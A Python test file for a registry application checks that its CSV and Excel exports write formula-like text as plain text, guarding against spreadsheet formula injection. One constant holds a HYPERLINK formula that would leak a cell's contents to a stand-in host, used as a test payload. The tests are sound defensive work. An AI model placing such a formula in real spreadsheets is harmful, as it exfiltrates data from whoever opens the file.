"""Every CSV and Excel file the registry writes goes through registry/spreadsheets.py: no cell runs as a
formula, whatever the text someone typed starts with."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook
from sqlalchemy import select

from registry import spreadsheets
from registry.db import models as m
from tests.database import sql

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_and_xlsx_write_formula_like_text_as_text():
    frame = pd.DataFrame({"text": STARTS + ["vanlig text", "3-2"], "number": range(8)})
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(frame).decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:7]] == ["'" + text for text in STARTS]
    assert rows[7][0] == "vanlig text" and rows[8][0] == "3-2"
    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx(frame, "Blad"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert cells[0].value == "=1+1"


def test_the_change_log_export_neutralises_formulas(client):
    assert client.post("/api/v1/departments", json={"name": HOSTILE, "slug": "elak"}).status_code == 201
    export = client.get("/changes/export.csv", params={"type": "department"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    labels = [row["object"] for row in rows if "HYPERLINK" in row["object"]]
    assert labels == ["'" + HOSTILE]
    assert all(not value.startswith(spreadsheets.FORMULA_START) for row in rows for value in row.values())


def test_the_raci_export_writes_activity_names_as_text(client_as, database_url):
    process_id = sql(database_url, select(m.Process.id).where(m.Process.slug == "kundtjanst-infrastruktur"))[0][0]
    column = sql(database_url, select(m.RaciColumn.id).where(m.RaciColumn.process_id == process_id))[0][0]
    responsible = client_as("coordinator")
    added = responsible.post(
        "/processes/kundtjanst-infrastruktur/raci/activities", data={"name": HOSTILE, "cells": [f"{column}:A"]}
    )
    assert added.status_code == 303, added.text[:500]
    sheet = load_workbook(io.BytesIO(responsible.get("/processes/kundtjanst-infrastruktur/raci.xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert len(cells) == 1
    assert cells[0].data_type == "s", "text, not a formula"
